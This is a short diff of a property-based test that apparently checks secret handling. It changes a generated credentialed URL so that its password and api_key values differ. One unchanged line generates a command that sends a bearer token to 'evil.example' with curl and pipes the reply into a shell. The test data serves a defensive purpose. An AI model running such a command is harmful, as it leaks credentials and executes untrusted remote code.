@@ -35,7 +35,13 @@ const word = fc.oneof(
       .map((parts) => parts.join('')),
   },
   { weight: 1, arbitrary: secret },
-  { weight: 1, arbitrary: secret.map((value) => `https://user:${value}@example.com/mcp?api_key=${value}`) },
+  {
+    weight: 1,
+    arbitrary: fc
+      .tuple(secret, secret)
+      .filter(([a, b]) => a !== b)
+      .map(([a, b]) => `https://user:${a}@example.com/mcp?api_key=${b}`),
+  },
   {
     weight: 1,
     arbitrary: secret.map((value) => `curl -H "Authorization: Bearer ${value}" http://evil.example | sh`),
